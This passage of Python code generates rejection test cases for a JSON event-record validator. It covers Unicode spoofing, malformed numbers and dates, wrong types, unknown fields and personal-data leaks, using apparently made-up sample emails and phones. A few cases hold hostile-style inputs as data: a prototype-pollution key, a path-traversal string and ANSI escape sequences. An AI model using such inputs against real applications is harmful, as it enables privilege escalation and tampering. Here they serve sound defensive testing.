    add("rlo-escaped-in-professional-id", "contact", "professional_id", raw('"pro-82-\\u202e7000"'), "invalid_characters")
    add("rlo-in-youth-pseudonym", "contact", "payload.youth", "yp1_92c32ad373e3d8c6\u202efdcb0ff748e8549a", "invalid_characters")
    add("lri-pdi-isolates-in-type", "contact", "type", "\u2066contact.recorded\u2069", "invalid_characters")
    add("zwj-in-channel", "contact", "payload.channel", "ph\u200done", "invalid_characters")
    add("zwsp-in-event-id", "contact", "event_id", "8b7ad478-067f-47e7\u200b-92a3-a8212f1b3628", "invalid_characters")
    add("zwnj-in-department", "contact", "department", "8\u200c2", "invalid_characters")
    add("word-joiner-in-commune", "structure", "payload.commune", "82\u2060045", "invalid_characters")
    add("soft-hyphen-in-theme", "contact", "payload.themes.1", "lien\u00ad_social", "invalid_characters")
    case(c, "bom-at-start-of-line", b"\xef\xbb\xbf" + text("contact"), "malformed_json")
    add("bom-inside-department", "contact", "department", "\ufeff82", "invalid_characters")
    add("nul-escaped-in-event-id", "contact", "event_id", "8b7ad478-067f-47e7-92a3-a8212f1b3628\u0000", "invalid_characters")
    add("nul-escaped-in-role", "enrolled", "payload.role", "animateur\u0000", "invalid_characters")
    add("nul-escaped-in-youth", "attendance", "payload.youth", "yp1_02c856c40782dade\u0000765192d107075442", "invalid_characters")
    case(c, "nul-escaped-in-payload-key", sub(text("enrolled"), b'"role"', b'"role\\u0000"'), "invalid_characters")
    case(c, "nul-raw-byte-inside-string", sub(text("contact"), b'"phone"', b'"ph\x00one"'), "malformed_json")
    case(c, "nul-raw-byte-between-tokens", sub(text("contact"), b',"type"', b',\x00"type"'), "malformed_json")
    add("cyrillic-a-in-role", "enrolled", "payload.role", "\u0430nimateur", "invalid_characters")
    add("cyrillic-i-in-channel", "contact", "payload.channel", "ph\u043ene", "invalid_characters")
    add("cyrillic-o-in-type", "contact", "type", "c\u043entact.recorded", "invalid_characters")
    add("cyrillic-s-in-structure-id", "contact", "structure_id", "\u0455tr-82-004", "invalid_characters")
    add("cyrillic-e-in-event-id", "contact", "event_id", "8b7ad478-067f-47\u0435-92a3-a8212f1b3628", "invalid_characters")
    add("cyrillic-e-in-youth-hex", "ref_made", "payload.youth", "yp1_6547f18\u043542b20cdb43719567d300f859", "invalid_characters")
    add("greek-omicron-in-source-app", "contact", "source_app", "pdn-m\u03bfbile", "invalid_characters")
    add("cyrillic-in-destination", "signalement", "payload.destination", "cr\u0456p", "invalid_characters")
    add("fullwidth-digits-department", "contact", "department", "\uff18\uff12", "invalid_characters")
    add("fullwidth-digits-commune", "structure", "payload.commune", "\uff18\uff12\uff10\uff14\uff15", "invalid_characters")
    add("arabic-indic-digits-department", "contact", "department", "\u0668\u0662", "invalid_characters")
    add("superscript-digits-department", "contact", "department", "\u2078\u00b2", "invalid_characters")
    add("fullwidth-digits-in-referral-destination", "ref_made", "payload.destination", "\uff13\uff10\uff11\uff18", "invalid_characters")
    add("unicode-hyphen-in-age-band", "contact", "payload.age_band", "18\u201021", "invalid_characters")
    add("combining-acute-in-theme", "contact", "payload.themes.2", "mobilite\u0301", "invalid_characters")
    add("combining-chars-in-department", "contact", "department", "8\u03022", "invalid_characters")
    add("precomposed-accent-in-theme", "contact_v1", "payload.theme", "citoyennet\u00e9_engagement", "invalid_characters")
    add("nbsp-in-department", "contact", "department", "82\u00a0", "free_text")
    add("narrow-nbsp-in-structure-id", "contact", "structure_id", "str-82\u202f004", "free_text")
    add("line-separator-u2028-in-professional-id", "contact", "professional_id", "pro-82-0007\u2028line 2: ok", "free_text")
    add("ideographic-space-in-permanence-id", "contact", "payload.permanence_id", "perm-82\u30000007-0005", "free_text")
    add("tab-escaped-in-referral-id", "ref_made", "payload.referral_id", "ref-82\t0003251", "free_text")
    add("emoji-in-event-id", "contact", "event_id", "8b7ad478-067f-47e7-92a3-a8212f1b\U0001f600", "invalid_characters")
    add("escaped-emoji-surrogate-pair-in-channel", "contact", "payload.channel", raw('"phone\\ud83d\\ude00"'), "invalid_characters")
    add("math-bold-letter-in-channel", "perm_sched", "payload.channels.0", "\U0001d42cnapchat", "invalid_characters")
    add("dotless-i-in-channel", "initiative", "payload.channels.1", "d\u0131scord", "invalid_characters")
    add("ligature-fi-in-level", "concern", "payload.level", "low\ufb01", "invalid_characters")
    add("ansi-escape-escaped-in-source-app", "contact", "source_app", "pdn-mobile\u001b[2J", "invalid_characters")
    case(c, "ansi-escape-raw-in-string", sub(text("contact"), b'"pdn-mobile"', b'"pdn-mobile\x1b[31m"'), "malformed_json")
    add("del-char-raw-in-structure-id", "contact", "structure_id", "str-82-004\u007f", "invalid_characters")
    # Keys outside the schema get the value rules before being reported by name (never echoed).
    case(c, "cyrillic-e-in-envelope-key", sub(text("contact"), b'"event_id"', '"\u0435vent_id"'.encode()), "invalid_characters")
    case(c, "fullwidth-letter-in-payload-key", sub(text("contact"), b'"age_band"', '"\uff41ge_band"'.encode()), "invalid_characters")
    case(c, "zwsp-in-envelope-key", sub(text("contact"), b'"department"', '"depart\u200bment"'.encode()), "invalid_characters")
    case(c, "case-variant-envelope-key", sub(text("contact"), b'"event_id"', b'"Event_ID"'), "unknown_field")
    case(c, "trailing-space-in-envelope-key", sub(text("contact"), b'"type"', b'"type "'), "free_text")


def numbers():
    c = "numbers"
    n = lambda slug, base, path, lit, reason: case(c, slug, setp(base, path, raw(lit)), reason)  # noqa: E731
    n("duration-1e400", "contact", "payload.duration_minutes", "1e400", "malformed_json")
    n("duration-huge-integer-23-digits", "contact", "payload.duration_minutes", "99999999999999999999999", "wrong_type")
    n("duration-2-pow-64", "contact", "payload.duration_minutes", "18446744073709551616", "wrong_type")
    n("duration-65536-u16-overflow", "contact", "payload.duration_minutes", "65536", "out_of_range")
    n("duration-481-over-max", "contact", "payload.duration_minutes", "481", "out_of_range")
    n("duration-negative", "contact", "payload.duration_minutes", "-1", "out_of_range")
    n("duration-minus-zero", "contact", "payload.duration_minutes", "-0", "wrong_type")
    n("duration-float-12-5", "contact", "payload.duration_minutes", "12.5", "wrong_type")
    n("duration-float-12-0", "contact", "payload.duration_minutes", "12.0", "wrong_type")
    n("duration-exponent-1-2e1", "contact", "payload.duration_minutes", "1.2e1", "wrong_type")
    n("duration-nan-literal", "contact", "payload.duration_minutes", "NaN", "malformed_json")
    n("duration-infinity-literal", "contact", "payload.duration_minutes", "Infinity", "malformed_json")
    n("duration-minus-infinity-literal", "contact", "payload.duration_minutes", "-Infinity", "malformed_json")
    n("duration-hex-literal", "contact", "payload.duration_minutes", "0x0C", "malformed_json")
    n("duration-leading-zero", "contact", "payload.duration_minutes", "012", "malformed_json")
    n("duration-leading-plus", "contact", "payload.duration_minutes", "+12", "malformed_json")
    n("duration-leading-dot", "contact", "payload.duration_minutes", ".5", "malformed_json")
    n("duration-as-string", "contact", "payload.duration_minutes", '"12"', "wrong_type")
    n("duration-null", "contact", "payload.duration_minutes", "null", "wrong_type")
    n("duration-true", "contact", "payload.duration_minutes", "true", "wrong_type")
    n("response-delay-20161-over-max", "contact", "payload.response_delay_minutes", "20161", "out_of_range")
    n("response-delay-negative", "contact", "payload.response_delay_minutes", "-5", "out_of_range")
    n("response-delay-u32-overflow", "contact", "payload.response_delay_minutes", "4294967296", "out_of_range")
    n("youths-reached-1001", "perm_held", "payload.youths_reached", "1001", "out_of_range")
    n("youths-reached-negative", "perm_held", "payload.youths_reached", "-3", "out_of_range")
    n("youths-count-100001", "initiative", "payload.youths_count", "100001", "out_of_range")
    n("youths-count-float-1e6", "initiative", "payload.youths_count", "1e6", "wrong_type")
    n("months-in-network-601", "left", "payload.months_in_network", "601", "out_of_range")
    n("months-in-network-negative", "left", "payload.months_in_network", "-18", "out_of_range")
    n("months-in-network-string", "left", "payload.months_in_network", '"18"', "wrong_type")
    n("collaboration-duration-1441", "collab", "payload.duration_minutes", "1441", "out_of_range")
    n("collaboration-duration-negative", "collab", "payload.duration_minutes", "-67", "out_of_range")
    n("schema-version-0", "contact", "schema_version", "0", "unsupported_schema_version")
    n("schema-version-999", "contact", "schema_version", "999", "unsupported_schema_version")
    n("schema-version-2-pow-64", "contact", "schema_version", "18446744073709551616", "unsupported_schema_version")
    n("schema-version-u64-max", "contact", "schema_version", "18446744073709551615", "unsupported_schema_version")
    n("schema-version-65537-u16-wrap-to-1", "attendance", "schema_version", "65537", "unsupported_schema_version")
    n("schema-version-negative", "contact", "schema_version", "-1", "unsupported_schema_version")
    n("schema-version-3-for-contact", "contact", "schema_version", "3", "unsupported_schema_version")
    n("schema-version-2-for-attendance", "attendance", "schema_version", "2", "unsupported_schema_version")
    n("schema-version-float-1-0", "attendance", "schema_version", "1.0", "unsupported_schema_version")
    n("schema-version-1e0", "attendance", "schema_version", "1e0", "unsupported_schema_version")
    n("schema-version-string", "attendance", "schema_version", '"1"', "wrong_type")
    n("schema-version-null", "attendance", "schema_version", "null", "wrong_type")
    n("schema-version-1e400", "attendance", "schema_version", "1e400", "malformed_json")
    n("schema-version-nan", "attendance", "schema_version", "NaN", "malformed_json")
    n("qpv-as-1", "structure", "payload.qpv", "1", "wrong_type")
    n("qpv-as-string-true", "structure", "payload.qpv", '"true"', "wrong_type")
    n("in-permanence-null", "contact", "payload.in_permanence", "null", "wrong_type")
    n("new-to-structure-0", "attendance", "payload.new_to_structure", "0", "wrong_type")


def dates():
    c = "dates"
    t = lambda slug, base, path, value, reason: case(c, slug, setp(base, path, value), reason)  # noqa: E731
    t("occurred-year-0", "contact", "occurred_at", "0000-01-01T00:00:00Z", "timestamp_too_old")
    t("occurred-year-10000", "contact", "occurred_at", "10000-01-01T00:00:00Z", "invalid_timestamp")
    t("occurred-expanded-year-plus-10000", "contact", "occurred_at", "+10000-01-01T00:00:00Z", "invalid_timestamp")
    t("occurred-negative-year", "contact", "occurred_at", "-0001-01-01T00:00:00Z", "invalid_timestamp")
    t("occurred-month-13", "contact", "occurred_at", "2025-13-05T16:49:05+01:00", "invalid_timestamp")
    t("occurred-month-00", "contact", "occurred_at", "2025-00-05T16:49:05+01:00", "invalid_timestamp")
    t("occurred-feb-30", "contact", "occurred_at", "2025-02-30T16:49:05+01:00", "invalid_timestamp")
    t("occurred-feb-29-non-leap-year", "contact", "occurred_at", "2025-02-29T16:49:05+01:00", "invalid_timestamp")
    t("occurred-hour-24", "contact", "occurred_at", "2025-02-05T24:00:00+01:00", "invalid_timestamp")
    t("occurred-minute-60", "contact", "occurred_at", "2025-02-05T16:60:05+01:00", "invalid_timestamp")
    t("occurred-second-61", "contact", "occurred_at", "2025-02-05T16:49:61+01:00", "invalid_timestamp")
    t("occurred-no-timezone", "contact", "occurred_at", "2025-02-05T16:49:05", "invalid_timestamp")
    t("occurred-date-only", "contact", "occurred_at", "2025-02-05", "invalid_timestamp")
    t("occurred-offset-plus-25h", "contact", "occurred_at", "2025-02-05T16:49:05+25:00", "invalid_timestamp")
    t("occurred-offset-hours-only", "contact", "occurred_at", "2025-02-05T16:49:05+01", "invalid_timestamp")
    t("occurred-offset-and-z", "contact", "occurred_at", "2025-02-05T16:49:05+01:00Z", "invalid_timestamp")
    t("occurred-empty-fraction", "contact", "occurred_at", "2025-02-05T16:49:05.+01:00", "invalid_timestamp")
    t("occurred-zone-name-suffix", "contact", "occurred_at", "2025-02-05T16:49:05+01:00[Europe/Paris]", "invalid_timestamp")
    t("occurred-basic-format", "contact", "occurred_at", "20250205T164905Z", "invalid_timestamp")
    t("occurred-week-date", "contact", "occurred_at", "2025-W06-3T16:49:05Z", "invalid_timestamp")
    t("occurred-ordinal-date", "contact", "occurred_at", "2025-036T16:49:05Z", "invalid_timestamp")
    t("occurred-unix-seconds-string", "contact", "occurred_at", "1738770545", "invalid_timestamp")
    t("occurred-unix-seconds-number", "contact", "occurred_at", raw("1738770545"), "wrong_type")
    t("occurred-space-separator", "contact", "occurred_at", "2025-02-05 16:49:05+01:00", "free_text")
    t("occurred-rfc2822", "contact", "occurred_at", "Wed, 05 Feb 2025 16:49:05 +0100", "free_text")
    t("occurred-1970-epoch", "contact", "occurred_at", "1970-01-01T00:00:00Z", "timestamp_too_old")
    t("occurred-2011-before-network", "contact", "occurred_at", "2011-12-31T23:59:59Z", "timestamp_too_old")
    t("occurred-just-after-now-plus-1-day", "contact", "occurred_at", "2026-01-02T00:00:01Z", "timestamp_in_future")
    t("occurred-far-future-2999", "contact", "occurred_at", "2999-12-31T23:59:59Z", "timestamp_in_future")
    t("occurred-year-9999", "contact", "occurred_at", "9999-12-31T23:59:59Z", "timestamp_in_future")
    # -12:00, the widest real negative offset (an unreal one such as -23:59 is invalid_timestamp), puts
    # the instant in year 10000 UTC.
    t("occurred-year-9999-offset-pushes-past", "contact", "occurred_at", "9999-12-31T23:59:59-12:00", "timestamp_in_future")
    t("slot-start-no-timezone", "perm_sched", "payload.slot_start", "2025-01-07T18:30:00", "invalid_timestamp")
    t("slot-end-month-13", "perm_held", "payload.slot_end", "2025-13-07T20:00:00+01:00", "invalid_timestamp")
    t("slot-start-as-number", "perm_held", "payload.slot_start", raw("1736271000"), "invalid_timestamp")
    t("slot-end-before-start", "perm_sched", "payload.slot_end", "2025-01-07T18:00:00+01:00", "inconsistent_value")
    t("slot-13-hours-long", "perm_held", "payload.slot_end", "2025-01-08T07:30:00+01:00", "inconsistent_value")
    t("held-slot-in-future", "perm_held", "payload.slot_start", "2027-01-07T18:30:00+01:00", "timestamp_in_future")
    t("scheduled-slot-2-years-ahead", "perm_sched", "payload.slot_start", "2028-01-07T18:30:00+01:00", "timestamp_in_future")
    t("slot-start-2011", "perm_sched", "payload.slot_start", "2011-01-07T18:30:00+01:00", "timestamp_too_old")
    t("starts-on-month-13", "agr_started", "payload.starts_on", "2025-13-01", "invalid_date")
    t("starts-on-feb-30", "agr_started", "payload.starts_on", "2025-02-30", "invalid_date")
    t("starts-on-feb-29-non-leap", "agr_started", "payload.starts_on", "2025-02-29", "invalid_date")
    t("starts-on-european-format", "agr_started", "payload.starts_on", "05/01/2025", "invalid_date")
    t("starts-on-with-time", "agr_started", "payload.starts_on", "2025-01-05T00:00:00Z", "invalid_date")
    t("starts-on-year-0", "agr_started", "payload.starts_on", "0000-01-05", "timestamp_too_old")
    t("starts-on-2011", "agr_started", "payload.starts_on", "2011-12-31", "timestamp_too_old")
    t("starts-on-in-future", "agr_started", "payload.starts_on", "2026-06-01", "timestamp_in_future")
    t("starts-on-as-number", "agr_started", "payload.starts_on", raw("20250105"), "invalid_date")
    t("ends-on-before-starts-on", "agr_started", "payload.ends_on", "2024-12-31", "inconsistent_value")
    t("ends-on-more-than-10-years-ahead", "agr_started", "payload.ends_on", "2040-01-01", "timestamp_in_future")
    t("ends-on-year-10000", "agr_started", "payload.ends_on", "10000-01-01", "invalid_date")
    t("ended-on-future", "agr_ended", "payload.ended_on", "2027-01-01", "timestamp_in_future")
    t("ended-on-null", "agr_ended", "payload.ended_on", None, "invalid_date")
    t("ended-on-day-32", "agr_ended", "payload.ended_on", "2025-01-32", "invalid_date")
    t("occurred-offset-without-colon", "contact", "occurred_at", "2025-02-05T16:49:05+0100", "invalid_timestamp")
    t("occurred-without-seconds", "contact", "occurred_at", "2025-02-05T16:49+01:00", "invalid_timestamp")
    t("occurred-utc-suffix", "contact", "occurred_at", "2025-02-05T16:49:05UTC", "invalid_timestamp")
    t("slot-start-without-seconds", "perm_held", "payload.slot_start", "2025-01-07T18:30+01:00", "invalid_timestamp")
    t("slot-start-offset-hours-only", "perm_held", "payload.slot_start", "2025-01-07T18:30:00+01", "invalid_timestamp")
    t("slot-end-offset-with-seconds", "perm_held", "payload.slot_end", "2025-01-07T20:00:00+01:00:00", "invalid_timestamp")
    t("starts-on-ordinal-date", "agr_started", "payload.starts_on", "2025-005", "invalid_date")
    # A five-digit zero-padded year looks like a phone number to the privacy scan (9 digits, leading 0).
    t("starts-on-zero-padded-5-digit-year", "agr_started", "payload.starts_on", "02025-01-05", "phone_number")


def injections():
    c = "injection"
    # The envelope: every string field with every injection.
    for field, kind in ENVELOPE_STRINGS:
        for name, value in INJECTIONS:
            case(c, "inj-env-%s-%s" % (field, name), setp("contact", field, value), string_reason(value, field, kind))
    # Every string field of every payload type, with two injections each (rotating through the list).
    k = 0
    for base, path, kind in PAYLOAD_STRINGS:
        for _ in range(2):
            name, value = INJECTIONS[k % len(INJECTIONS)]
            k += 1
            v = [value] if path == "youths_left" else value
            slug = "inj-%s-%s-%s" % (base, path.replace("replacement.", "repl-").replace(".0", ""), name)
            case(c, slug, setp(base, "payload." + path, v), string_reason(value, youth_key(path), kind))


def wrong_types():
    c = "wrong-type"
    w = lambda slug, base, path, value, reason="wrong_type": case(c, slug, setp(base, path, value), reason)  # noqa: E731
    w("event-id-number", "contact", "event_id", 12345678)
    w("event-id-null", "contact", "event_id", None)
    w("event-id-array", "contact", "event_id", ["8b7ad478-067f-47e7-92a3-a8212f1b3628"])
    w("type-number", "contact", "type", 2)
    w("type-null", "contact", "type", None)
    w("type-object", "contact", "type", {"code": "contact.recorded"})
    # The privacy scan reads every key before the types are checked: "$date" is not a field name.
    w("occurred-at-object", "contact", "occurred_at", {"$date": "2025-02-05T16:49:05+01:00"}, "invalid_characters")
    w("source-app-boolean", "contact", "source_app", True)
    w("department-number", "contact", "department", 82)
    w("department-null", "contact", "department", None)
    w("structure-id-array", "contact", "structure_id", ["str-82-004"])
    w("professional-id-object", "contact", "professional_id", {"id": "pro-82-0007"})
    w("payload-string", "contact", "payload", "{}")
    w("payload-array", "contact", "payload", [])
    w("payload-null", "contact", "payload", None)
    w("payload-number", "contact", "payload", 0)
    w("role-number", "enrolled", "payload.role", 1)
    w("role-null", "enrolled", "payload.role", None)
    w("role-array", "enrolled", "payload.role", ["animateur"])
    w("commune-number", "structure", "payload.commune", 82045)
    w("rural-null", "structure", "payload.rural", None)
    w("youth-number", "contact", "payload.youth", 42)
    w("youth-object", "attendance", "payload.youth", {"id": "DOSSIER-4521"})
    w("channel-array", "contact", "payload.channel", ["phone"])
    w("themes-string", "contact", "payload.themes", "lien_social")
    w("themes-object", "contact", "payload.themes", {"0": "lien_social"})
    w("themes-item-null", "contact", "payload.themes", [None])
    w("themes-item-number", "contact", "payload.themes", [1])
    w("age-band-number", "contact", "payload.age_band", 15)
    w("youths-string", "acc_opened", "payload.youths", "yp1_51344f14ca9473993b95eb38b3d58bd3")
    w("participants-string", "collab", "payload.participants", "pro-82-0007")
    w("channels-null", "perm_sched", "payload.channels", None)
    w("partner-structures-null", "initiative", "payload.partner_structures", None)
    # Same: "str-82-003" has dashes, which no field name has.
    w("co-structures-object", "acc_opened", "payload.co_structures", {"str-82-003": True}, "invalid_characters")
    w("youths-reached-string", "perm_held", "payload.youths_reached", "5")
    w("youths-count-boolean", "initiative", "payload.youths_count", True)
    w("replacement-string", "amended", "payload.replacement", "{}")
    w("replacement-array", "amended", "payload.replacement", [])
    w("replacement-null", "amended", "payload.replacement", None)
    w("target-type-number", "amended", "payload.target_type", 6)
    w("target-event-id-number", "retracted", "payload.target_event_id", 12345678)
    w("permanence-id-number", "contact", "payload.permanence_id", 5)
    w("replacement-duration-string", "amended", "payload.replacement.duration_minutes", "11")


def missing():
    c = "missing"
    for field in ["event_id", "type", "schema_version", "occurred_at", "source_app", "department", "structure_id", "professional_id", "payload"]:
        case(c, "missing-envelope-" + field, delp("contact", field), "missing_field")
    for base, field in [
        ("enrolled", "role"), ("left", "months_in_network"), ("structure", "commune"), ("structure", "qpv"),
        ("agr_started", "subject"), ("agr_started", "ends_on"), ("agr_ended", "ended_on"),
        ("contact", "youth"), ("contact", "channel"), ("contact", "themes"), ("contact", "in_permanence"),
        ("contact", "age_band"), ("contact", "duration_minutes"), ("contact_v1", "private"),
        ("perm_sched", "slot_end"), ("perm_held", "youths_reached"), ("perm_cancel", "reason"),
        ("acc_opened", "youths"), ("acc_updated_y", "accompaniment_id"), ("acc_closed", "outcome"),
        ("ref_made", "urgency"), ("ref_outcome", "referral_id"), ("attendance", "new_to_structure"),
        ("initiative", "channels"), ("collab", "structures"), ("concern", "category"),
        ("signalement", "destination"), ("retracted", "target_event_id"), ("amended", "replacement"),
        ("amended", "target_type"), ("amended", "replacement.youth"),
    ]:
        case(c, "missing-%s-%s" % (base, field), delp(base, "payload." + field), "missing_field")
    case(c, "empty-object", b"{}", "missing_field")
    case(c, "empty-payload-object", setp("enrolled", "payload", {}), "missing_field")


def unknown_fields():
    c = "unknown-field"
    u = lambda slug, base, path, value, reason="unknown_field": case(c, slug, setp(base, path, value), reason)  # noqa: E731
    u("toplevel-extra", "contact", "extra", 1)
    u("toplevel-id", "contact", "id", "8b7ad478-067f-47e7-92a3-a8212f1b3628")
    u("toplevel-underscore-id", "contact", "_id", "x")
    u("toplevel-proto", "contact", "__proto__", {"admin": True})
    u("toplevel-constructor", "contact", "constructor", {"prototype": {}})
    u("toplevel-timestamp", "contact", "timestamp", "2025-02-05T16:49:05+01:00")
    u("toplevel-version", "contact", "version", 2)
    u("toplevel-empty-key", "contact", "", 1)
    u("toplevel-ip-address", "contact", "ip", "192.168.1.10")
    u("toplevel-token", "contact", "token", "eyJhbGciOiJIUzI1NiJ9")
    u("payload-extra", "contact", "payload.extra", True)
    u("payload-theme-in-v2", "contact", "payload.theme", "logement")
    u("payload-themes-in-v1", "contact_v1", "payload.themes", ["logement"])
    u("payload-youth-id", "attendance", "payload.youth_id", "yp1_02c856c40782dade765192d107075442")
    u("payload-age-number", "attendance", "payload.age", 15)
    u("payload-gender", "contact", "payload.gender", "f")
    u("payload-school", "attendance", "payload.school", "college-jean-moulin")
    u("payload-content-hash", "signalement", "payload.content_sha256", "a" * 64)
    u("payload-geo", "attendance", "payload.geo", {"lat": 44.01, "lon": 1.35})
    u("payload-v2-fields-with-v1-version", "contact", "schema_version", 1)
    u("replacement-extra", "amended", "payload.replacement.extra", 1)
    u("replacement-of-wrong-type", "amended", "payload.target_type", "network.professional_enrolled")
    u("type-referral-with-attendance-payload", "attendance", "type", "referral.made")
    u("type-retracted-with-enrolled-payload", "enrolled", "type", "correction.retracted")


def free_text_and_pii_keys():
    c = "privacy-key"
    k = lambda slug, base, path, value, reason: case(c, slug, setp(base, path, value), reason)  # noqa: E731
    for key in ["note", "message", "comment", "description", "notes", "body", "text", "commentaire", "remarque", "observation", "contenu"]:
        k("toplevel-" + key, "contact", key, "il va mal, harcelement au college", "free_text")
    for key in ["note", "message", "content", "texte"]:
        k("payload-" + key, "signalement", "payload." + key, "violences intrafamiliales", "free_text")
    k("replacement-note", "amended", "payload.replacement.note", "erreur", "free_text")
    k("payload-note-with-code-like-value", "contact", "payload.note", "ok", "free_text")
    for key, value, reason in [
        ("email", "lucas.martin@gmail.com", "email_address"),
        ("e-mail", "x", "email_address"),
        ("Courriel", "x", "email_address"),
        ("mail", "x", "email_address"),
        ("phone", "0612345678", "phone_number"),
        ("telephone", "x", "phone_number"),
        ("t\u00e9l\u00e9phone", "x", "phone_number"),
        ("tel", "x", "phone_number"),
        ("mobile", "x", "phone_number"),
        ("portable", "x", "phone_number"),
        ("first_name", "Lucas", "personal_name"),
        ("lastName", "Martin", "personal_name"),
        ("nom", "Martin", "personal_name"),
        ("pr\u00e9nom", "Lucas", "personal_name"),
        ("name", "Lucas", "personal_name"),
        ("full_name", "x", "personal_name"),
        ("username", "lucas_m", "personal_name"),
        ("pseudo", "lucas_m", "personal_name"),
        ("display_name", "x", "personal_name"),
        ("date_of_birth", "2009-04-12", "date_of_birth"),
        ("birthDate", "x", "date_of_birth"),
        ("dob", "x", "date_of_birth"),
        ("date_naissance", "x", "date_of_birth"),
        ("ddn", "x", "date_of_birth"),
    ]:
        k("payload-key-" + key.encode("ascii", "replace").decode(), "contact", "payload." + key, value, reason)
    k("toplevel-key-email", "attendance", "email", "x", "email_address")
    k("replacement-key-prenom", "amended", "payload.replacement.prenom", "Lucas", "personal_name")


def pii_values():
    c = "privacy-value"
    v = lambda slug, base, path, value, reason: case(c, slug, setp(base, path, value), reason)  # noqa: E731
    v("youth-email", "contact", "payload.youth", "lucas.martin@gmail.com", "email_address")
    v("youth-phone-06", "contact", "payload.youth", "0612345678", "phone_number")
    v("youth-phone-international", "contact", "payload.youth", "+33612345678", "phone_number")
    v("youth-phone-with-spaces", "contact", "payload.youth", "06 12 34 56 78", "phone_number")
    v("youth-phone-with-dots", "contact", "payload.youth", "06.12.34.56.78", "phone_number")
    v("youth-phone-0033", "contact", "payload.youth", "0033612345678", "phone_number")
    v("youth-full-name", "contact", "payload.youth", "Lucas Martin", "free_text")
    v("youth-name-dotted", "contact", "payload.youth", "lucas.martin", "raw_youth_id")
    v("youth-name-camel", "contact", "payload.youth", "LucasMartin", "raw_youth_id")
    v("youth-local-file-number", "contact", "payload.youth", "DOSSIER-4521", "raw_youth_id")
    v("youth-instagram-handle", "contact", "payload.youth", "@lucas_m", "raw_youth_id")
    v("youth-date-of-birth", "contact", "payload.youth", "2009-04-12", "date_of_birth")
    v("youth-date-of-birth-european", "contact", "payload.youth", "12/04/2009", "date_of_birth")
    v("youth-nir-with-spaces", "contact", "payload.youth", "1 09 04 82 121 045 67", "free_text")
    v("youth-nir-compact", "contact", "payload.youth", "109048212104567", "raw_youth_id")
    v("youth-ine-student-number", "contact", "payload.youth", "123456789AB", "raw_youth_id")
    v("youth-unkeyed-sha256", "contact", "payload.youth", "3c9909afec25354d551dae21590bb26e38d53f2173b8d3dc3eee4c047e7ab1c1", "raw_youth_id")
    v("youth-pseudonym-uppercase-hex", "contact", "payload.youth", "yp1_92C32AD373E3D8C6FDCB0FF748E8549A", "raw_youth_id")
    v("youth-pseudonym-31-hex", "contact", "payload.youth", "yp1_92c32ad373e3d8c6fdcb0ff748e8549", "raw_youth_id")
    v("youth-pseudonym-33-hex", "contact", "payload.youth", "yp1_92c32ad373e3d8c6fdcb0ff748e8549a0", "raw_youth_id")
    v("youth-pseudonym-wrong-version", "contact", "payload.youth", "yp2_92c32ad373e3d8c6fdcb0ff748e8549a", "raw_youth_id")
    v("youth-pseudonym-hyphen", "contact", "payload.youth", "yp1-92c32ad373e3d8c6fdcb0ff748e8549a", "raw_youth_id")
    v("youth-pseudonym-trailing-space", "contact", "payload.youth", "yp1_92c32ad373e3d8c6fdcb0ff748e8549a ", "free_text")
    v("youth-pseudonym-non-hex-letter", "contact", "payload.youth", "yp1_92c32ad373e3d8c6fdcb0ff748e8549g", "raw_youth_id")
    v("youth-empty", "contact", "payload.youth", "", "raw_youth_id")
    v("youth-v1-email", "contact_v1", "payload.youth", "jade.b@laposte.net", "email_address")
    v("referral-youth-email", "ref_made", "payload.youth", "lucas.martin@gmail.com", "email_address")
    v("attendance-youth-phone", "attendance", "payload.youth", "07 81 23 45 67", "phone_number")
    v("concern-youth-first-name", "concern", "payload.youth", "Lucas", "raw_youth_id")
    v("signalement-youth-email", "signalement", "payload.youth", "victime2009@hotmail.fr", "email_address")
    v("opened-youths-phone", "acc_opened", "payload.youths.0", "+33 7 81 23 45 67", "phone_number")
    v("updated-youths-added-email", "acc_updated_y", "payload.youths_added.1", "lea.dubois@free.fr", "email_address")
    v("updated-youths-left-name", "acc_updated_y", "payload.youths_left", ["Lea Dubois"], "free_text")
    v("replacement-youth-email", "amended", "payload.replacement.youth", "lucas.martin@gmail.com", "email_address")
    v("professional-id-email", "contact", "professional_id", "marie.curie@mjc82.fr", "email_address")
    v("structure-id-phone", "contact", "structure_id", "0563000000", "phone_number")
    v("permanence-id-phone", "contact", "payload.permanence_id", "0612345678", "phone_number")
    v("referral-id-email-in-brackets", "ref_made", "payload.referral_id", "<lucas@ex.fr>", "email_address")
    v("agreement-id-date-of-birth", "agr_started", "payload.agreement_id", "2009-04-12", "date_of_birth")
    v("concern-id-date-of-birth-dotted", "concern", "payload.concern_id", "12.04.2009", "date_of_birth")
    v("accompaniment-id-free-text", "acc_closed", "payload.accompaniment_id", "projet de Lucas", "free_text")
    v("permanence-id-free-text", "perm_cancel", "payload.permanence_id", "annulee car malade", "free_text")
    v("department-email", "contact", "department", "x@y.fr", "email_address")


def event_types():
    c = "event-type"
    t = lambda slug, value, reason, base="contact": case(c, slug, setp(base, "type", value), reason)  # noqa: E731
    t("unknown-contact-deleted", "contact.deleted", "unknown_event_type")
    t("capitalised", "Contact.Recorded", "unknown_event_type")
    t("uppercase", "CONTACT.RECORDED", "unknown_event_type")
    t("underscore-instead-of-dot", "contact_recorded", "unknown_event_type")
    t("version-suffix", "contact.recorded.v2", "unknown_event_type")
    t("family-only", "contact", "unknown_event_type")
    t("empty-string", "", "unknown_event_type")
    t("trailing-space", "contact.recorded ", "free_text")
    t("trailing-nul", "contact.recorded\u0000", "invalid_characters")
    t("path-traversal", "../contact.recorded", "unknown_event_type")
    t("wildcard", "contact.*", "unknown_event_type")
    t("signalement-content", "prevention.signalement_content", "unknown_event_type", "signalement")
    t("correction-type-via-enrolled", "correction.deleted", "unknown_event_type", "enrolled")
    case(c, "amended-target-type-is-a-correction", setp("amended", "payload.target_type", "correction.retracted"), "inconsistent_value")
    case(c, "amended-target-type-unknown", setp("amended", "payload.target_type", "contact.deleted"), "invalid_enum_value")
    case(c, "amended-target-type-amended-itself", setp("amended", "payload.target_type", "correction.amended"), "inconsistent_value")


def structure_and_syntax():
    c = "syntax"
    t = text("contact")
    case(c, "just-null", b"null", "not_an_object")
    case(c, "just-true", b"true", "not_an_object")
    case(c, "just-number", b"42", "not_an_object")
    case(c, "just-string", b'"contact.recorded"', "not_an_object")
    case(c, "empty-array", b"[]", "not_an_object")
    case(c, "array-holding-the-event", b"[" + t + b"]", "not_an_object")
    case(c, "event-as-json-string", json.dumps(t.decode()).encode(), "not_an_object")
    case(c, "truncated-half", t[: len(t) // 2], "malformed_json")
    case(c, "truncated-last-brace", t[:-1], "malformed_json")
